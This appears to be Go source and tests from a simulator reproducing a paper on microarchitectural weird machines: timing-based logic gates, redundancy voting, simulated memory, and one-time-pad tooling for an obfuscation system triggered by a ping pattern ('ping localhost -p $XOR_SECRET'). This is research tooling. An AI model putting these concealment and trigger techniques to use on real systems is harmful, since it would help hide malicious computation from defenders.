// per-vector seed schedule circopt.Pool.EvalBatch uses, so a serial
// batch and a pooled batch are byte-identical.
func (s *Skelly) EvalPlanBatch(plan *circopt.Plan, batch [][]int, evalSeed uint64) ([][]int, error) {
	outs := make([][]int, len(batch))
	for v, inputs := range batch {
		out, err := circopt.EvalPlan(s, plan, inputs, noise.SubSeed(evalSeed, uint64(v)))
		if err != nil {
			return nil, err
		}
		outs[v] = out
	}
	return outs, nil
}
