package skelly_test

import (
	"fmt"

	"uwm/internal/core"
	"uwm/internal/skelly"
)

// ExampleSkelly_Add32 adds two words through 32 weird full adders: no
// CPU add instruction ever touches the operands (§5.2).
func ExampleSkelly_Add32() {
	m := core.MustNewMachine(core.Options{Seed: 5, TrainIterations: 3})
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		panic(err)
	}
	sum, err := sk.Add32(0xCAFE, 0xF00D)
	if err != nil {
		panic(err)
	}
	fmt.Printf("%#x\n", sum)
	// Output:
	// 0x1bb0b
}
