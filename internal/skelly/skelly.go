// Package skelly reproduces the paper's evaluation framework of the same
// name (§6.2): a static library of boolean functions backed by weird
// gates, which "abstracts away the need to understand the state of the
// microarchitecture to build weird circuits".
//
// It provides:
//
//   - reliability machinery: each logical gate operation executes the
//     underlying weird gate s times and takes the timing median, then
//     repeats that n times and takes a best-k-of-n vote (§5.2);
//   - instrumented correctness counters ("Correct After Median" /
//     "Correct After Vote", the columns of Table 4), enabled by the
//     Verify flag exactly like the paper's reporting compile flag;
//   - 1-bit primitives AND, OR, NAND, NOT, XOR, AND_AND_OR, a full
//     adder, and 32-bit convenience functions (bitwise ops, addition,
//     shifts and rotates) — the §6.2 inventory.
//
// Gate alignment management is inherited from package core, which gives
// every gate line-aligned code and data regions.
package skelly

import (
	"fmt"
	"sort"

	"uwm/internal/core"
	"uwm/internal/metrics"
)

// Config selects the redundancy and instrumentation parameters.
type Config struct {
	// S is how many timing samples feed one median decision.
	S int
	// N is how many median decisions feed one vote; K is the number of
	// agreeing decisions required to declare a 1 (otherwise majority
	// of medians decides; the paper's best-k-of-n).
	K, N int
	// Verify compares every gate decision against its truth table and
	// counts correctness — the paper's reporting mode. It does not
	// change results.
	Verify bool
	// AbortOnError makes logical operations fail fast when a vote
	// disagrees with the truth table (requires Verify); the paper
	// allowed skelly to abort on detected incorrect operations.
	AbortOnError bool
}

// DefaultConfig mirrors the paper's conservative SHA-1 parameters:
// s=10, k=3, n=5 (§5.2).
func DefaultConfig() Config { return Config{S: 10, K: 3, N: 5, Verify: true} }

// FastConfig disables redundancy for tests and interactive use.
func FastConfig() Config { return Config{S: 1, K: 1, N: 1} }

// Counters instruments one gate type, matching Table 4's columns.
type Counters struct {
	MedianOps     uint64 // s-sample median decisions made
	MedianCorrect uint64
	VoteOps       uint64 // k-of-n vote decisions made
	VoteCorrect   uint64
}

// GateError reports a vote that disagreed with the truth table under
// AbortOnError.
type GateError struct {
	Gate string
	In   []int
	Got  int
	Want int
}

// Error implements the error interface.
func (e *GateError) Error() string {
	return fmt.Sprintf("skelly: %s%v voted %d, want %d", e.Gate, e.In, e.Got, e.Want)
}

// Skelly is the gate library bound to one machine.
type Skelly struct {
	m   *core.Machine
	cfg Config

	and  *core.BPGate
	or   *core.BPGate
	nand *core.BPGate
	aao  *core.BPGate

	counters map[string]*Counters

	// spanNames maps a primitive gate name to its pre-built skelly-level
	// profiling frame ("skelly:AND"): the redundancy loop of gateOp is a
	// distinct cost layer from the gate activations inside it, and the
	// names are interned here so the hot path never concatenates.
	spanNames map[string]string

	// Visibility accounting (§5.2): totalOps counts every logical gate
	// operation; visible counts the results a caller stored into
	// architecturally visible memory. Composite operations (Xor,
	// FullAdder) mark only their externally stored values, so the
	// fraction reproduces the paper's "41.9% of the intermediate
	// results were architecturally visible".
	totalOps uint64
	visible  uint64

	// OnVoteError, when set with Verify enabled, is invoked for every
	// vote that disagrees with the truth table — a diagnostics hook
	// for experiments that want to localize gate failures.
	OnVoteError func(gate string, in []int, got, want int)

	// checkpoint, when set, is polled before every logical gate
	// operation; a non-nil return abandons the circuit with that
	// error. See SetCheckpoint.
	checkpoint func() error
}

// New builds the library's gates on the given machine.
func New(m *core.Machine, cfg Config) (*Skelly, error) {
	if cfg.S < 1 || cfg.N < 1 || cfg.K < 1 || cfg.K > cfg.N {
		return nil, fmt.Errorf("skelly: invalid redundancy config s=%d k=%d n=%d", cfg.S, cfg.K, cfg.N)
	}
	s := &Skelly{m: m, cfg: cfg, counters: make(map[string]*Counters)}
	var err error
	if s.and, err = core.NewBPAnd(m); err != nil {
		return nil, err
	}
	if s.or, err = core.NewBPOr(m); err != nil {
		return nil, err
	}
	if s.nand, err = core.NewBPNand(m); err != nil {
		return nil, err
	}
	if s.aao, err = core.NewBPAndAndOr(m); err != nil {
		return nil, err
	}
	s.spanNames = make(map[string]string)
	for _, g := range []string{"AND", "OR", "NAND", "AND_AND_OR"} {
		s.counters[g] = &Counters{}
		s.spanNames[g] = "skelly:" + g
	}
	s.registerMetrics(m.Metrics())
	return s, nil
}

// Metric series exported by the gate library, all lazily collected
// from the Table 4 counters at scrape time.
const (
	MetricMedianOps       = "uwm_skelly_median_ops_total"
	MetricMedianCorrect   = "uwm_skelly_median_correct_total"
	MetricVoteOps         = "uwm_skelly_vote_ops_total"
	MetricVoteCorrect     = "uwm_skelly_vote_correct_total"
	MetricLogicalOps      = "uwm_skelly_logical_ops_total"
	MetricVisibleResults  = "uwm_skelly_visible_results_total"
	MetricVisibleFraction = "uwm_skelly_visible_fraction"
)

// registerMetrics exposes the Table 4 counters and the §5.2 visibility
// accounting on the machine's registry (a no-op when none is attached).
func (s *Skelly) registerMetrics(reg *metrics.Registry) {
	if reg == nil {
		return
	}
	for name, ctr := range s.counters {
		ctr := ctr
		lbl := metrics.L("gate", name)
		reg.CounterFunc(MetricMedianOps, "s-sample median decisions", func() uint64 { return ctr.MedianOps }, lbl)
		reg.CounterFunc(MetricMedianCorrect, "median decisions matching the truth table", func() uint64 { return ctr.MedianCorrect }, lbl)
		reg.CounterFunc(MetricVoteOps, "k-of-n vote decisions", func() uint64 { return ctr.VoteOps }, lbl)
		reg.CounterFunc(MetricVoteCorrect, "vote decisions matching the truth table", func() uint64 { return ctr.VoteCorrect }, lbl)
	}
	reg.CounterFunc(MetricLogicalOps, "logical gate operations performed", func() uint64 { return s.totalOps })
	reg.CounterFunc(MetricVisibleResults, "gate results stored architecturally visibly", func() uint64 { return s.visible })
	reg.GaugeFunc(MetricVisibleFraction, "share of gate results crossing visible memory", s.VisibleFraction)
}

// Machine returns the underlying weird machine.
func (s *Skelly) Machine() *core.Machine { return s.m }

// Gate returns the underlying weird gate for a primitive name (AND,
// OR, NAND, AND_AND_OR), or nil — useful for inspection and debugging.
func (s *Skelly) Gate(name string) *core.BPGate {
	switch name {
	case "AND":
		return s.and
	case "OR":
		return s.or
	case "NAND":
		return s.nand
	case "AND_AND_OR":
		return s.aao
	default:
		return nil
	}
}

// Config returns the redundancy configuration.
func (s *Skelly) Config() Config { return s.cfg }

// Counters returns the instrumentation for one gate type.
func (s *Skelly) Counters(gate string) Counters {
	if c, ok := s.counters[gate]; ok {
		return *c
	}
	return Counters{}
}

// ResetCounters zeroes all instrumentation.
func (s *Skelly) ResetCounters() {
	for _, c := range s.counters {
		*c = Counters{}
	}
	s.totalOps = 0
	s.visible = 0
}

// MarkVisible records that n gate results were stored into
// architecturally visible memory by the caller. Composite helpers
// (Xor, FullAdder, Not) mark their own outputs; callers using the raw
// gates directly mark theirs.
func (s *Skelly) MarkVisible(n int) { s.visible += uint64(n) }

// TotalGateOps returns the number of logical gate operations performed.
func (s *Skelly) TotalGateOps() uint64 { return s.totalOps }

// VisibleMarks returns how many gate results were marked as stored in
// architecturally visible memory.
func (s *Skelly) VisibleMarks() uint64 { return s.visible }

// VisibleFraction returns the share of gate results that crossed
// architecturally visible memory (§5.2's visibility metric).
func (s *Skelly) VisibleFraction() float64 {
	if s.totalOps == 0 {
		return 0
	}
	return float64(s.visible) / float64(s.totalOps)
}

// SetCheckpoint installs (or, with nil, removes) a cancellation poll
// invoked at every gate boundary: long-running circuits — a SHA-1
// compression is ~21k gate operations — abandon cleanly between gate
// activations instead of only between circuits. The canonical
// checkpoint is a context.Context's Err method, which is how the job
// engine enforces per-job deadlines.
func (s *Skelly) SetCheckpoint(fn func() error) { s.checkpoint = fn }

// gateOp runs one logical operation of gate g with the paper's
// redundancy scheme and instrumentation.
func (s *Skelly) gateOp(g *core.BPGate, in ...int) (int, error) {
	if s.checkpoint != nil {
		if err := s.checkpoint(); err != nil {
			return 0, err
		}
	}
	sp := s.m.BeginSpan(s.spanNames[g.Name()])
	defer s.m.EndSpan(sp)
	want := g.Golden(in)
	ctr := s.counters[g.Name()]
	s.totalOps++
	ones := 0
	for vote := 0; vote < s.cfg.N; vote++ {
		deltas := make([]int64, 0, s.cfg.S)
		for i := 0; i < s.cfg.S; i++ {
			_, d, err := g.RunTimed(in...)
			if err != nil {
				return 0, err
			}
			deltas = append(deltas, d)
		}
		sort.Slice(deltas, func(i, j int) bool { return deltas[i] < deltas[j] })
		bit := s.m.ToBit(deltas[(len(deltas)-1)/2])
		ctr.MedianOps++
		if s.cfg.Verify && bit == want {
			ctr.MedianCorrect++
		}
		ones += bit
	}
	// Best-k-of-n: a 1 needs at least k agreeing medians and a strict
	// majority; with the paper's k=3, n=5 this is a plain majority.
	need := s.cfg.N/2 + 1
	if need < s.cfg.K {
		need = s.cfg.K
	}
	out := 0
	if ones >= need {
		out = 1
	}
	ctr.VoteOps++
	if s.cfg.Verify {
		if out == want {
			ctr.VoteCorrect++
		} else {
			if s.OnVoteError != nil {
				s.OnVoteError(g.Name(), in, out, want)
			}
			if s.cfg.AbortOnError {
				return out, &GateError{Gate: g.Name(), In: append([]int(nil), in...), Got: out, Want: want}
			}
		}
	}
	return out, nil
}

// And returns a AND b computed by the weird machine.
func (s *Skelly) And(a, b int) (int, error) { return s.gateOp(s.and, a, b) }

// Or returns a OR b.
func (s *Skelly) Or(a, b int) (int, error) { return s.gateOp(s.or, a, b) }

// Nand returns a NAND b.
func (s *Skelly) Nand(a, b int) (int, error) { return s.gateOp(s.nand, a, b) }

// Not returns NOT a, built as NAND(a, a) — no dedicated gate needed
// once NAND exists (§3.2's universality).
func (s *Skelly) Not(a int) (int, error) {
	v, err := s.Nand(a, a)
	if err != nil {
		return 0, err
	}
	s.MarkVisible(1)
	return v, nil
}

// AndAndOr returns (a AND b) OR (c AND d), the composed gate of §5.2.
func (s *Skelly) AndAndOr(a, b, c, d int) (int, error) { return s.gateOp(s.aao, a, b, c, d) }

// Xor returns a XOR b as AND(OR(a,b), NAND(a,b)) — the partially
// architecturally visible composition the BP-gate SHA-1 uses: the two
// intermediate bits pass through architectural memory between gate
// activations, and only the final AND's output counts as a stored
// (visible) result.
func (s *Skelly) Xor(a, b int) (int, error) {
	sp := s.m.BeginSpan("circuit:xor")
	defer s.m.EndSpan(sp)
	or, err := s.Or(a, b)
	if err != nil {
		return 0, err
	}
	nand, err := s.Nand(a, b)
	if err != nil {
		return 0, err
	}
	v, err := s.And(or, nand)
	if err != nil {
		return 0, err
	}
	s.MarkVisible(1)
	return v, nil
}

// FullAdder returns (sum, carry) of a+b+cin, built from two weird XORs
// and one weird AND_AND_OR exactly as §5.2 describes.
func (s *Skelly) FullAdder(a, b, cin int) (sum, carry int, err error) {
	sp := s.m.BeginSpan("circuit:fulladder")
	defer s.m.EndSpan(sp)
	xab, err := s.Xor(a, b)
	if err != nil {
		return 0, 0, err
	}
	sum, err = s.Xor(xab, cin)
	if err != nil {
		return 0, 0, err
	}
	carry, err = s.AndAndOr(a, b, cin, xab)
	if err != nil {
		return 0, 0, err
	}
	// The adder stores three values architecturally: the reused
	// a⊕b, the sum and the carry (the Xor calls already marked the
	// first two; the carry is marked here). Net: 3 visible of 7 gate
	// operations, the ratio behind the paper's 41.9%.
	s.MarkVisible(1)
	return sum, carry, nil
}

// Bits32 converts a word to its 32 bits, LSB first.
func Bits32(v uint32) []int {
	out := make([]int, 32)
	for i := range out {
		out[i] = int(v >> uint(i) & 1)
	}
	return out
}

// Word32 reassembles bits (LSB first) into a word.
func Word32(bits []int) uint32 {
	var v uint32
	for i, b := range bits {
		if b != 0 {
			v |= 1 << uint(i)
		}
	}
	return v
}

// And32 returns a AND b computed bitwise on weird gates.
func (s *Skelly) And32(a, b uint32) (uint32, error) { return s.map32("circuit:and32", s.And, a, b) }

// Or32 returns a OR b bitwise.
func (s *Skelly) Or32(a, b uint32) (uint32, error) { return s.map32("circuit:or32", s.Or, a, b) }

// Xor32 returns a XOR b bitwise.
func (s *Skelly) Xor32(a, b uint32) (uint32, error) { return s.map32("circuit:xor32", s.Xor, a, b) }

// Not32 returns NOT a bitwise.
func (s *Skelly) Not32(a uint32) (uint32, error) {
	sp := s.m.BeginSpan("circuit:not32")
	defer s.m.EndSpan(sp)
	bits := Bits32(a)
	for i, bit := range bits {
		nb, err := s.Not(bit)
		if err != nil {
			return 0, err
		}
		bits[i] = nb
	}
	return Word32(bits), nil
}

func (s *Skelly) map32(span string, op func(int, int) (int, error), a, b uint32) (uint32, error) {
	sp := s.m.BeginSpan(span)
	defer s.m.EndSpan(sp)
	ab, bb := Bits32(a), Bits32(b)
	out := make([]int, 32)
	for i := range out {
		v, err := op(ab[i], bb[i])
		if err != nil {
			return 0, err
		}
		out[i] = v
	}
	return Word32(out), nil
}

// Add32 returns a + b (mod 2³²) through a ripple-carry chain of weird
// full adders; no CPU add instruction touches the operands.
func (s *Skelly) Add32(a, b uint32) (uint32, error) {
	sp := s.m.BeginSpan("circuit:add32")
	defer s.m.EndSpan(sp)
	ab, bb := Bits32(a), Bits32(b)
	out := make([]int, 32)
	carry := 0
	for i := 0; i < 32; i++ {
		sum, c, err := s.FullAdder(ab[i], bb[i], carry)
		if err != nil {
			return 0, err
		}
		out[i] = sum
		carry = c
	}
	return Word32(out), nil
}

// RotL32 rotates left by n bits — pure wiring, no gates (§6.2 lists
// 32-bit left shift/rotate among skelly's convenience functions).
func RotL32(v uint32, n uint) uint32 { return v<<(n&31) | v>>((32-n)&31) }

// ShL32 shifts left by n bits — wiring only.
func ShL32(v uint32, n uint) uint32 { return v << (n & 31) }
