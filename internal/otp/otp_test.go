package otp

import (
	"bytes"
	"testing"
	"testing/quick"

	"uwm/internal/noise"
)

func TestXORRoundTrip(t *testing.T) {
	f := func(a, b [PadBytes]byte) bool {
		x, err := XOR(a[:], b[:])
		if err != nil {
			return false
		}
		y, err := XOR(x, b[:])
		if err != nil {
			return false
		}
		return bytes.Equal(y, a[:])
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestXORLengthMismatch(t *testing.T) {
	if _, err := XOR(make([]byte, 3), make([]byte, 4)); err == nil {
		t.Error("length mismatch accepted")
	}
}

func TestBitSetBit(t *testing.T) {
	data := make([]byte, 4)
	SetBit(data, 0, 1)
	SetBit(data, 9, 1)
	SetBit(data, 31, 1)
	if data[0] != 0x01 || data[1] != 0x02 || data[3] != 0x80 {
		t.Errorf("data = %x", data)
	}
	if Bit(data, 0) != 1 || Bit(data, 9) != 1 || Bit(data, 31) != 1 || Bit(data, 5) != 0 {
		t.Error("Bit readback wrong")
	}
	SetBit(data, 9, 0)
	if Bit(data, 9) != 0 {
		t.Error("clearing a bit failed")
	}
}

func TestBitRoundTripProperty(t *testing.T) {
	f := func(raw [PadBytes]byte) bool {
		out := make([]byte, PadBytes)
		for i := 0; i < PadBits; i++ {
			SetBit(out, i, Bit(raw[:], i))
		}
		return bytes.Equal(out, raw[:])
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestPingPatternRoundTrip(t *testing.T) {
	rng := noise.NewRNG(5)
	for i := 0; i < 20; i++ {
		p := NewPad(rng)
		got, err := ParsePingPattern(p.PingPattern())
		if err != nil {
			t.Fatal(err)
		}
		if got != p {
			t.Fatalf("round trip failed: %x vs %x", got, p)
		}
	}
}

func TestParsePingPatternErrors(t *testing.T) {
	if _, err := ParsePingPattern("zz"); err == nil {
		t.Error("bad hex accepted")
	}
	if _, err := ParsePingPattern("abcd"); err == nil {
		t.Error("short pattern accepted")
	}
}

func TestNewPadVariability(t *testing.T) {
	rng := noise.NewRNG(6)
	a, b := NewPad(rng), NewPad(rng)
	if a == b {
		t.Error("consecutive pads identical")
	}
}
