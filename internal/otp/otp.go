// Package otp provides the one-time-pad trigger tooling of the weird
// obfuscation system (§5.1): 160-bit pads, XOR helpers, and the ping
// payload encoding used to deliver a trigger ("ping localhost -p
// $XOR_SECRET" in the paper's experiment).
package otp

import (
	"encoding/hex"
	"fmt"

	"uwm/internal/noise"
)

// PadBits is the trigger length in bits (the paper's 160-bit pad).
const PadBits = 160

// PadBytes is the trigger length in bytes.
const PadBytes = PadBits / 8

// Pad is a one-time pad / trigger value.
type Pad [PadBytes]byte

// NewPad draws a random pad from the given RNG.
func NewPad(rng *noise.RNG) Pad {
	var p Pad
	rng.Bytes(p[:])
	return p
}

// XOR returns a ⊕ b for equal-length slices.
func XOR(a, b []byte) ([]byte, error) {
	if len(a) != len(b) {
		return nil, fmt.Errorf("otp: length mismatch %d vs %d", len(a), len(b))
	}
	out := make([]byte, len(a))
	for i := range a {
		out[i] = a[i] ^ b[i]
	}
	return out, nil
}

// Bit returns bit i (LSB-first within bytes) of data.
func Bit(data []byte, i int) int {
	return int(data[i/8] >> uint(i%8) & 1)
}

// SetBit sets bit i (LSB-first within bytes) of data to v.
func SetBit(data []byte, i, v int) {
	if v != 0 {
		data[i/8] |= 1 << uint(i%8)
	} else {
		data[i/8] &^= 1 << uint(i%8)
	}
}

// PingPattern encodes the pad the way the paper's experiment passes it
// to ping's -p flag: a hex string.
func (p Pad) PingPattern() string { return hex.EncodeToString(p[:]) }

// ParsePingPattern decodes a hex trigger back into a Pad.
func ParsePingPattern(s string) (Pad, error) {
	var p Pad
	b, err := hex.DecodeString(s)
	if err != nil {
		return p, fmt.Errorf("otp: bad ping pattern: %w", err)
	}
	if len(b) != PadBytes {
		return p, fmt.Errorf("otp: ping pattern must encode %d bytes, got %d", PadBytes, len(b))
	}
	copy(p[:], b)
	return p, nil
}
