package mem

import (
	"bytes"
	"testing"
	"testing/quick"
)

func TestLineArithmetic(t *testing.T) {
	cases := []struct {
		addr   Addr
		line   Addr
		offset uint64
	}{
		{0, 0, 0},
		{1, 0, 1},
		{63, 0, 63},
		{64, 64, 0},
		{0x1234, 0x1200, 0x34},
	}
	for _, c := range cases {
		if got := c.addr.Line(); got != c.line {
			t.Errorf("%#x.Line() = %#x, want %#x", uint64(c.addr), uint64(got), uint64(c.line))
		}
		if got := c.addr.Offset(); got != c.offset {
			t.Errorf("%#x.Offset() = %d, want %d", uint64(c.addr), got, c.offset)
		}
	}
}

func TestLinePropertyBased(t *testing.T) {
	f := func(a uint64) bool {
		addr := Addr(a)
		return uint64(addr.Line())%LineSize == 0 &&
			uint64(addr.Line())+addr.Offset() == a
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestMemoryWordAccess(t *testing.T) {
	m := New()
	if m.Read64(0x100) != 0 {
		t.Error("fresh memory should read zero")
	}
	m.Write64(0x100, 0xdeadbeefcafef00d)
	if got := m.Read64(0x100); got != 0xdeadbeefcafef00d {
		t.Errorf("Read64 = %#x", got)
	}
	// Unaligned addresses round down to the word.
	if got := m.Read64(0x103); got != 0xdeadbeefcafef00d {
		t.Errorf("unaligned Read64 = %#x", got)
	}
}

func TestMemoryByteAccess(t *testing.T) {
	m := New()
	data := []byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11}
	m.WriteBytes(0x205, data) // deliberately unaligned
	if got := m.ReadBytes(0x205, len(data)); !bytes.Equal(got, data) {
		t.Errorf("ReadBytes = %v, want %v", got, data)
	}
	if m.Read8(0x205) != 1 || m.Read8(0x20f) != 11 {
		t.Error("byte boundaries wrong")
	}
}

func TestByteRoundTripProperty(t *testing.T) {
	f := func(addr uint16, data []byte) bool {
		if len(data) > 256 {
			data = data[:256]
		}
		m := New()
		m.WriteBytes(Addr(addr), data)
		return bytes.Equal(m.ReadBytes(Addr(addr), len(data)), data)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestSnapshotRestore(t *testing.T) {
	m := New()
	m.Write64(8, 42)
	m.Write64(16, 43)
	snap := m.Snapshot()
	m.Write64(8, 99)
	m.Write64(24, 1)
	m.Restore(snap)
	if m.Read64(8) != 42 || m.Read64(16) != 43 || m.Read64(24) != 0 {
		t.Errorf("restore failed: %d %d %d", m.Read64(8), m.Read64(16), m.Read64(24))
	}
}

func TestLayoutAlloc(t *testing.T) {
	l := NewLayout(0x1000)
	a := l.AllocLine("a")
	b := l.AllocLine("b")
	if a.Addr%LineSize != 0 || b.Addr%LineSize != 0 {
		t.Error("AllocLine not line-aligned")
	}
	if b.Addr < a.Addr+LineSize {
		t.Error("allocations overlap")
	}
	if got := l.MustLookup("a"); got != a {
		t.Error("lookup mismatch")
	}
	if _, ok := l.Lookup("missing"); ok {
		t.Error("lookup of missing symbol succeeded")
	}
	if s := l.Symbols(); len(s) != 2 || s[0].Name != "a" {
		t.Errorf("Symbols() = %v", s)
	}
}

func TestLayoutAllocAlignment(t *testing.T) {
	l := NewLayout(0x1001) // misaligned base
	s := l.Alloc("x", 8, 256)
	if s.Addr%256 != 0 {
		t.Errorf("Alloc alignment violated: %#x", uint64(s.Addr))
	}
}

func TestLayoutDuplicatePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("duplicate Alloc did not panic")
		}
	}()
	l := NewLayout(0)
	l.AllocLine("dup")
	l.AllocLine("dup")
}

func TestLayoutBadAlignmentPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("non-power-of-two alignment did not panic")
		}
	}()
	l := NewLayout(0)
	l.Alloc("x", 8, 3)
}

func TestAllocAt(t *testing.T) {
	l := NewLayout(0x1000)
	s := l.AllocAt("ev", 0x90040, LineSize)
	if s.Addr != 0x90040 {
		t.Errorf("AllocAt placed at %#x", uint64(s.Addr))
	}
	if l.End() != 0x1000 {
		t.Error("AllocAt moved the bump pointer")
	}
	if got := l.MustLookup("ev"); got.Addr != 0x90040 {
		t.Error("AllocAt not in symbol table")
	}
}

func TestMustLookupPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustLookup of missing symbol did not panic")
		}
	}()
	NewLayout(0).MustLookup("nope")
}
