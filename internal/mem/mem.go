// Package mem provides the simulated flat physical memory and the symbol
// layout used by μWM programs. Weird registers are named memory locations
// (symbols) whose cache-residency — not whose stored value — carries the
// machine's logical state, so the symbol table is the natural unit the
// rest of the system works with.
package mem

import (
	"fmt"
	"sort"
)

// Addr is a simulated physical byte address.
type Addr uint64

// LineSize is the cache line size in bytes. All cache geometry in the
// simulator derives from it.
const LineSize = 64

// Line returns the address of the cache line containing a.
func (a Addr) Line() Addr { return a &^ (LineSize - 1) }

// Offset returns a's offset within its cache line.
func (a Addr) Offset() uint64 { return uint64(a) & (LineSize - 1) }

// pageBytes is the granularity of sparse allocation (4 KiB pages).
const (
	pageBytes = 4096
	pageWords = pageBytes / 8
)

type page [pageWords]uint64

// Memory is a sparse 64-bit-word-addressable flat memory backed by
// 4 KiB pages. Reads of never-written locations return zero, like
// freshly mapped pages. Page-based storage keeps the simulator's
// hottest path (gate loads and stores) off map lookups per word.
type Memory struct {
	pages map[Addr]*page
	// last-page cache: gate programs hammer a handful of lines.
	lastBase Addr
	lastPage *page
}

// New returns an empty memory.
func New() *Memory {
	return &Memory{pages: make(map[Addr]*page)}
}

// lookup returns the page containing addr, or nil if never written.
func (m *Memory) lookup(addr Addr) *page {
	base := addr &^ (pageBytes - 1)
	if m.lastPage != nil && m.lastBase == base {
		return m.lastPage
	}
	p := m.pages[base]
	if p != nil {
		m.lastBase, m.lastPage = base, p
	}
	return p
}

// ensure returns the page containing addr, allocating it if needed.
func (m *Memory) ensure(addr Addr) *page {
	if p := m.lookup(addr); p != nil {
		return p
	}
	base := addr &^ (pageBytes - 1)
	p := new(page)
	m.pages[base] = p
	m.lastBase, m.lastPage = base, p
	return p
}

// Read64 returns the 8-byte word at addr (addr is rounded down to an
// 8-byte boundary).
func (m *Memory) Read64(addr Addr) uint64 {
	p := m.lookup(addr)
	if p == nil {
		return 0
	}
	return p[addr>>3&(pageWords-1)]
}

// Write64 stores an 8-byte word at addr (rounded down to an 8-byte
// boundary).
func (m *Memory) Write64(addr Addr, v uint64) {
	m.ensure(addr)[addr>>3&(pageWords-1)] = v
}

// Read8 returns the byte at addr.
func (m *Memory) Read8(addr Addr) byte {
	return byte(m.Read64(addr) >> (8 * (addr & 7)))
}

// Write8 stores one byte at addr.
func (m *Memory) Write8(addr Addr, v byte) {
	shift := 8 * (addr & 7)
	w := m.Read64(addr)
	w = (w &^ (uint64(0xff) << shift)) | uint64(v)<<shift
	m.Write64(addr, w)
}

// ReadBytes copies n bytes starting at addr.
func (m *Memory) ReadBytes(addr Addr, n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = m.Read8(addr + Addr(i))
	}
	return out
}

// WriteBytes stores b starting at addr.
func (m *Memory) WriteBytes(addr Addr, b []byte) {
	for i, v := range b {
		m.Write8(addr+Addr(i), v)
	}
}

// Snapshot returns a copy of all non-zero words, used for forensic
// memory views and state comparison.
func (m *Memory) Snapshot() map[Addr]uint64 {
	cp := make(map[Addr]uint64)
	for base, p := range m.pages {
		for i, v := range p {
			if v != 0 {
				cp[base+Addr(i*8)] = v
			}
		}
	}
	return cp
}

// Restore replaces the memory contents with a snapshot.
func (m *Memory) Restore(snap map[Addr]uint64) {
	m.pages = make(map[Addr]*page)
	m.lastPage = nil
	for a, v := range snap {
		m.Write64(a, v)
	}
}

// Symbol is a named, sized allocation in the simulated address space.
type Symbol struct {
	Name string
	Addr Addr
	Size uint64
}

// Layout is a bump allocator with a symbol table. Data symbols for weird
// registers are always line-aligned so that one symbol maps to exactly
// one cache line — the paper's skelly framework performs the same
// alignment management (§6.2).
type Layout struct {
	next    Addr
	symbols map[string]Symbol
}

// NewLayout returns a Layout allocating from base upward.
func NewLayout(base Addr) *Layout {
	return &Layout{next: base, symbols: make(map[string]Symbol)}
}

// Alloc reserves size bytes with the given alignment (which must be a
// power of two; 0 means LineSize) under name. It panics if the name is
// already taken — symbol names identify weird registers, so collisions
// are programming errors.
func (l *Layout) Alloc(name string, size, align uint64) Symbol {
	if _, dup := l.symbols[name]; dup {
		panic(fmt.Sprintf("mem: duplicate symbol %q", name))
	}
	if align == 0 {
		align = LineSize
	}
	if align&(align-1) != 0 {
		panic(fmt.Sprintf("mem: alignment %d is not a power of two", align))
	}
	a := (uint64(l.next) + align - 1) &^ (align - 1)
	sym := Symbol{Name: name, Addr: Addr(a), Size: size}
	l.symbols[name] = sym
	l.next = Addr(a + size)
	return sym
}

// AllocLine reserves one full, line-aligned cache line under name. This
// is the standard shape of a data-cache weird register.
func (l *Layout) AllocLine(name string) Symbol {
	return l.Alloc(name, LineSize, LineSize)
}

// AllocAt registers a symbol at an explicit address, outside the bump
// region. Eviction-set constructions use it to place lines at exact
// cache-set-aliasing strides from a victim line. The caller is
// responsible for avoiding overlaps; the bump pointer is not moved.
func (l *Layout) AllocAt(name string, addr Addr, size uint64) Symbol {
	if _, dup := l.symbols[name]; dup {
		panic(fmt.Sprintf("mem: duplicate symbol %q", name))
	}
	sym := Symbol{Name: name, Addr: addr, Size: size}
	l.symbols[name] = sym
	return sym
}

// Lookup returns the symbol with the given name.
func (l *Layout) Lookup(name string) (Symbol, bool) {
	s, ok := l.symbols[name]
	return s, ok
}

// MustLookup returns the symbol with the given name, panicking if it does
// not exist. Gate builders use it for symbols they allocated themselves.
func (l *Layout) MustLookup(name string) Symbol {
	s, ok := l.symbols[name]
	if !ok {
		panic(fmt.Sprintf("mem: unknown symbol %q", name))
	}
	return s
}

// Symbols returns all symbols sorted by address, for diagnostics and for
// the analyzer's memory map.
func (l *Layout) Symbols() []Symbol {
	out := make([]Symbol, 0, len(l.symbols))
	for _, s := range l.symbols {
		out = append(out, s)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Addr < out[j].Addr })
	return out
}

// End returns the first unallocated address.
func (l *Layout) End() Addr { return l.next }
