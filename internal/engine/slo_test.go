package engine

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"testing"
	"time"

	"uwm/internal/evlog"
	"uwm/internal/flightrec"
	"uwm/internal/health"
	"uwm/internal/metrics"
	"uwm/internal/slo"
)

// sloClock is the virtual clock the SLO engine evaluates against: one
// second per observation, starting at a fixed epoch, so the alert
// timeline is a deterministic function of the job stream.
type sloClock struct {
	now time.Time
}

func newSLOClock() *sloClock {
	return &sloClock{now: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
}

func (c *sloClock) Now() time.Time {
	t := c.now
	c.now = c.now.Add(time.Second)
	return t
}

// tightGateSLO is the acceptance-test objective: 99% gate accuracy
// under the fast page policy alone. Healthy TSX gates run in the
// 0.92–0.99 accuracy band, so the natural error stream burns at
// ~2.3× — below the fast 14.4 threshold but above the slow policy's
// 1.0, which would page on noise; a real deployment pairs the slow
// policy with a looser objective (see DefaultSLOs' 0.90). MinEvents
// 100 keeps the tiny first-job windows from evaluating.
func tightGateSLO() []slo.Definition {
	return []slo.Definition{{
		Name: "gate-accuracy", Kind: slo.KindGateAccuracy, Objective: 0.99,
		MinEvents: 100,
		Policies: []slo.BurnPolicy{{
			Name: "fast", Severity: slo.SeverityPage,
			ShortWindow: slo.Duration(5 * time.Minute), LongWindow: slo.Duration(time.Hour),
